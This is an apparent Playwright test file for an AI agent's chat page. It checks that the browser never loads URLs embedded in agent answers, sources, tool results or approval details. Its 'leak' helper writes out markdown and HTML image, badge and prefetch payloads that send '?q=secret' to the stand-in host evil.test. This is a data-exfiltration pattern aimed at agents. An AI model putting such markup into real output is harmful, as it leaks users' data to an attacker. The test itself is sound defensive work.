import { approvalStep } from "./agent-scripts.ts";
import { slug } from "./chat-page.ts";
import { fakeStep } from "./fake-steps.ts";
import { expect, test, threadPath } from "./fixtures.ts";
import { guard } from "./page-guard.ts";

/** Text that would make a browser request an address which carries what an agent has read. */
const leak = (n: number): string =>
  [
    `![chart ${n}](https://evil.test/${n}.png?q=secret)`,
    `<img src="https://evil.test/${n}.gif?q=secret">`,
    `[![badge](https://evil.test/${n}.svg?q=secret)](https://evil.test/${n}?q=secret)`,
    `<link rel="prefetch" href="https://evil.test/${n}?q=secret">`,
    `![chart][${n}]\n\n[${n}]: https://evil.test/${n}.webp?q=secret`,
    `https://evil.test/${n}?q=secret`,
  ].join("\n\n");

test("nothing that an agent has read or written is fetched by the browser", async ({
  page,
  gateway,
}) => {
  const source = { ...gateway.sources[0]!, documentId: "", title: leak(1), text: leak(2) };
  gateway.addTurn(slug, "flow", {
    question: "What do the pages say?",
    answer: `It says so [1].\n\n${leak(3)}`,
    sources: [{ ...source, chunkSource: "link://https://evil.test/page?q=secret" }],
    steps: [
      fakeStep(1, {
        skill: "web-scraping",
        tool: "read-web-page",
        object: "https://evil.test/?q=secret",
        input: JSON.stringify({ url: "https://evil.test/?q=secret", question: leak(4) }),
        result: leak(5),
      }),
      fakeStep(2, { skill: "mcp:tickets", tool: leak(6), object: leak(7), result: leak(8) }),
      approvalStep(3, {
        state: "denied",
        approval: {
          ...approvalStep(3).approval!,
          destination: "https://evil.test/?q=secret",
          details: [{ label: leak(9), value: leak(10) }],
          decision: "denied",
        },
      }),
      fakeStep(4, {
        outputs: [
          { type: "table", title: leak(11), columns: [leak(12)], rows: [[leak(13)]], total: 1 },
          { type: "file", name: `${leak(14)}.html`, file: "a", mime: "text/html", size: 1 },
        ],
      }),
    ],
  });
  const { check } = await guard(page, gateway);
  await page.goto(threadPath);
  const turn = page.getByRole("article", { name: "Answer" });
  await expect(turn).toContainText("It says so");
  // Every line opens to its input and result, and the lines appear once their list is opened.
  const closed = turn.locator('button[aria-expanded="false"]:not([aria-haspopup])');
  await closed.first().click();
  await expect(turn).toContainText("Read web page");
  while ((await closed.count()) > 0) await closed.first().click();
  await expect(turn).toContainText("evil.test/5");
  await expect(turn.locator('img[src*="evil.test"]')).toHaveCount(0);
  // Not even the name is looked up before somebody follows a link.
  await expect(page.locator('link[href*="evil.test"]')).toHaveCount(0);
  await check();
});
